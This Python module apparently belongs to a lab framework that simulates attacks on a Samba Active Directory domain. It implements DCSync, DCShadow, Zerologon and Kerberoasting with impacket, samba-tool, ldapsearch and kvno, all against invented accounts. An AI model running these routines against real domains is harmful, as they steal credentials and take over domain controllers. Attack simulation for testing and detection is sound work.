"""What is done to a domain by who wants to own it: secrets replicated, the controller's log-in cheated, services' tickets collected."""

from __future__ import annotations

import shutil
from collections.abc import Sequence
from contextlib import suppress
from datetime import datetime

from accounts import PASSWORD
from act import Doing
from impacket.dcerpc.v5 import drsuapi, epm, nrpc, transport
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.examples.secretsdump import RemoteOperations
from services.directory import ADMIN, ADMIN_PASSWORD, DOMAIN, FIRST, join, kerberos_conf, realm
from space import call
from state import Hospital

NULL = bytes(8)
FLAGS = 0x212FFFFF
"""What a controller of Windows Server 2008 R2 offers (MS-NRPC 3.1.4.2), without which AES is not used."""
CHANNEL = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
CLERK = "zzclerk"
BY_NAME, BY_ID = drsuapi.DS_NAME_FORMAT.DS_NT4_ACCOUNT_NAME, drsuapi.DS_NAME_FORMAT.DS_UNIQUE_ID_NAME


def replicate(names: Sequence[str]) -> Doing:
    """DCSync: a workplace asks for what controllers tell each other, account by account (MS-DRSR 4.1.10 DRSGetNCChanges).

    By the calls of impacket's secretsdump. What comes back is of invented accounts, and nobody looks at it.
    """

    def doing(hospital: Hospital, moment: datetime) -> None:
        remote = RemoteOperations(_LogIn(hospital.address("dc")), False)
        for name in names:
            found = remote.DRSCrackNames(BY_NAME, BY_ID, f"{DOMAIN}\\{name}")
            with suppress(DCERPCException):  # Samba's answer is more than impacket reads
                remote.DRSGetNCChangesGuid(found["pmsgOut"]["V1"]["pResult"]["rItems"][0]["pName"][:-1])
        remote.getDrsr().disconnect()

    return doing


def become_controller(host: str, name: str) -> Doing:
    """DCShadow: a workplace makes itself a controller by what the domain has for that, and takes all there is (MS-DRSR 4.1.1 DRSAddEntry).

    By Samba's own join; the controller never opens, and its entry is removed again, as the tool of that name does.
    """

    def doing(hospital: Hospital, moment: datetime) -> None:
        one = hospital.host(host)
        call(join(hospital, one, name))
        server = f"ldap://{FIRST}.{realm(hospital).lower()}"
        words = ["samba-tool", "domain", "demote", f"--remove-other-dead-server={name.upper()}", "-H", server, "-U", ADMIN]
        call([*words, f"--password={ADMIN_PASSWORD}", "-s", str(hospital.folder(host) / "empty.conf")])
        for part in ("private", "state", "etc", "bind-dns"):
            shutil.rmtree(hospital.folder(host) / part, ignore_errors=True)

    return doing


class _LogIn:
    """What impacket wants to know of a connection by SMB that we do not make: DCSync goes by TCP."""

    def __init__(self, address: str) -> None:
        self.getRemoteHost = self.getRemoteName = lambda: address

    def setTimeout(self, seconds: int) -> None:
        pass

    @staticmethod
    def getCredentials() -> tuple[object, ...]:
        return ADMIN, ADMIN_PASSWORD, DOMAIN, "", "", "", None, None


def zerologon(times: int) -> Doing:
    """Null challenges and null credentials, over and over (CVE-2020-1472, MS-NRPC 3.4.5.2); Samba of today refuses all."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        place = epm.hept_map(hospital.address("dc"), nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
        calls = transport.DCERPCTransportFactory(place).get_dce_rpc()
        calls.connect()
        calls.bind(nrpc.MSRPC_UUID_NRPC)
        for _ in range(times):
            nrpc.hNetrServerReqChallenge(calls, "DC\0", "DC\0", NULL)
            with suppress(DCERPCException):
                nrpc.hNetrServerAuthenticate3(calls, "DC\0", "DC$\0", CHANNEL, "DC\0", NULL, FLAGS)
        calls.disconnect()

    return doing


def collect_tickets(name: str = "*") -> Doing:
    """Kerberoasting: accounts that services run under, found by LDAP, and a ticket in RC4 for each (RFC 4757). `name`: one account's."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        address, clerk, password = hospital.address("dc"), f"{CLERK}@{realm(hospital)}", f"{PASSWORD}-Zz1"
        env = {"KRB5_CONFIG": str(kerberos_conf(hospital)), "KRB5CCNAME": f"FILE:{hospital.folder('dc')}/roast"}
        base = ",".join(f"dc={part}" for part in realm(hospital).lower().split("."))
        sought = f"(&(servicePrincipalName=*)(sAMAccountName={name})(objectCategory=person))"
        words = ["ldapsearch", "-LLL", "-x", "-H", f"ldap://{address}", "-D", clerk, "-w", password, "-b", base, sought]
        told = call([*words, "servicePrincipalName"])
        services = [line.split(": ")[1] for line in told.splitlines() if line.startswith("servicePrincipalName: ")]
        call(["kinit", clerk], stdin=f"{password}\n", env=env)
        call(["kvno", "-e", "rc4-hmac", *services], env=env)

    return doing
